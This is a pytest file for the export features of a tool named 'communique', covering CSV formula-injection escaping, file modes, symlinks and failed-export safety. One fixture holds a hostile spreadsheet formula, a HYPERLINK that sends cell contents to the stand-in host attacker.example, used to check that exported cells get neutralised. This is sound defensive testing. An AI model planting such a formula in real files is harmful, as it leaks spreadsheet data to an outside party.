"""Export as a user meets it (UX15): hostile text in CSV, and options that do not apply. Real SQLite."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from communique.export.formats import to_string
from communique.ingest.text import document_from_text
from communique.store import Corpus

FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
TEXT = "@SUM(1+1) The two foreign ministers welcomed the new agreement on river water sharing on Monday."


@pytest.fixture(scope="module")
def db(tmp_path_factory, coder):
    path = tmp_path_factory.mktemp("export-ux15") / "c.db"
    document = document_from_text(TEXT, source="+hostile.txt", title=FORMULA_TITLE, date="2023-04-05")
    with Corpus(str(path)) as corpus:
        corpus.add(coder.code_document(document))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("table", ["events", "documents", "stances"])
def test_csv_cells_never_start_a_spreadsheet_formula(db, table):
    """A title like =HYPERLINK(...) used to reach the CSV as is: a spreadsheet would evaluate it."""
    with Corpus(str(db), create=False) as corpus:
        out = to_string(corpus, "csv", table=table)
    cells = _cells(out)
    assert len(cells) > 1
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], out[:500]
    if table != "stances":
        assert "'" + FORMULA_TITLE in cells  # kept readable, just not evaluated


def test_numbers_stay_numbers_in_csv(db):
    with Corpus(str(db), create=False) as corpus:
        rows = list(csv.DictReader(io.StringIO(to_string(corpus, "csv", table="events"))))
    assert rows
    for row in rows:
        float(row["confidence"])
        int(row["sentence_index"])


def test_table_option_with_a_format_that_has_no_tables_is_a_usage_error(db, tmp_path):
    """--table stances --format phoenix used to be ignored silently (events were written)."""
    out = tmp_path / "x.tsv"
    args = ["export", "--db", str(db), "--format", "phoenix", "--table", "stances", str(out)]
    proc = subprocess.run(
        [sys.executable, "-m", "communique", *args],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 2
    assert "--table" in proc.stderr and "csv" in proc.stderr
    assert not out.exists()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_a_failed_export_leaves_the_existing_file_alone(db, tmp_path, fmt):
    """An export that failed after opening its output used to leave the file truncated or half-written."""
    from communique.model import CommuniqueError

    out = tmp_path / f"events.{fmt}"
    out.write_text("yesterday's export\n")
    with Corpus(str(db), create=False) as corpus, pytest.raises(CommuniqueError):
        to_file = str(out)
        from communique.export.formats import export

        export(corpus, fmt, to_file, since="2022-02-30")
    assert out.read_text() == "yesterday's export\n"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # no temporary file left behind


def test_export_file_mode_and_devices(db, tmp_path):
    import os

    from communique.export.formats import export

    out = tmp_path / "events.csv"
    with Corpus(str(db), create=False) as corpus:
        assert export(corpus, "csv", str(out)) >= 1
        assert export(corpus, "jsonl", "/dev/null") == 1  # a device is written, not replaced
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null")


def test_an_export_over_a_private_file_or_a_symlink_keeps_them(db, tmp_path):
    """Replacing the output by its finished temporary file made a 0600 export 0644 and a symlink a plain
    file (its target left stale)."""
    import os

    from communique.export.formats import export

    private = tmp_path / "private.csv"
    private.write_text("old\n")
    private.chmod(0o600)
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    with Corpus(str(db), create=False) as corpus:
        export(corpus, "csv", str(private))
        export(corpus, "csv", str(link))
    assert private.stat().st_mode & 0o777 == 0o600 and private.read_text() != "old\n"
    assert os.path.islink(link) and target.read_text() != "old\n"
